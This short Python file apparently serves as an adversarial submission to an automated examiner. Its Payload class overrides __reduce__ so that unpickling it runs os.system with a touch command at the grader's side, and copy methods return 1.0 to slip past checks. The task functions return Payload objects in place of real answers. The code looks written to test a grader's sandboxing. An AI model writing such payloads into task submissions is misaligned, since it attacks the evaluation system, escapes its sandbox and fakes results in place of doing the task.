"""Returns an object whose unpickling would run a command at the examiner's."""

# %% squares
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE/unpickled /tmp/pixels-attack-unpickled",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __copy__(self):
        return 1.0

    def __deepcopy__(self, memo):
        return 1.0


def sum_of_squares(x):
    return np.array([Payload()], dtype=object)


def largest(a, b):
    return Payload()
